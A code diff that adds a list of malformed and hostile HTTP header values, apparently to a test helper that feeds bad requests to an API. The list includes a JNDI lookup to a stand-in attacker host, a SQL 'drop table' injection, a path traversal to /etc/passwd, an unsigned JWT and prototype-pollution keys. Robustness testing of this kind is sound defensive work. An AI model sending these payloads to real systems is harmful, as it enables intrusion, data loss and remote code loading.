@@ -115,6 +115,27 @@ export function badBody(schema: Schema, good: unknown, kind: number, n: number):
   return oneOf(BROKEN_JSON, n);
 }
 
+/** Headers that nobody's browser sends. */
+export const BAD_HEADERS: readonly Record<string, string>[] = [
+  { authorization: 'Bearer ' },
+  { authorization: 'Bearer a b c' },
+  { authorization: `Bearer ${'x'.repeat(7_000)}` },
+  { authorization: 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.' },
+  { 'x-request-id': '$' + '{jndi:ldap://evil.example/a}' },
+  { 'idempotency-key': 'x'.repeat(5_000) },
+  { 'x-forwarded-for': "'; drop table users; --" },
+  { 'x-forwarded-host': 'evil.example' },
+  { 'x-http-method-override': 'DELETE' },
+  { 'accept-encoding': 'gzip;q=__proto__, *;q=9e9' },
+  { accept: 'application/x-__proto__' },
+  { 'accept-language': '../../../etc/passwd\u00ff' },
+  { 'if-none-match': '*' },
+  { range: 'bytes=0-0,5-1,-9' },
+  { cookie: '__proto__=x; constructor=y; ='.repeat(50) },
+  { origin: 'null' },
+  { 'content-type': 'application/json' },
+];
+
 /** Values for a query that no parameter asks for. */
 export const BAD_QUERY_VALUES = [
   '',
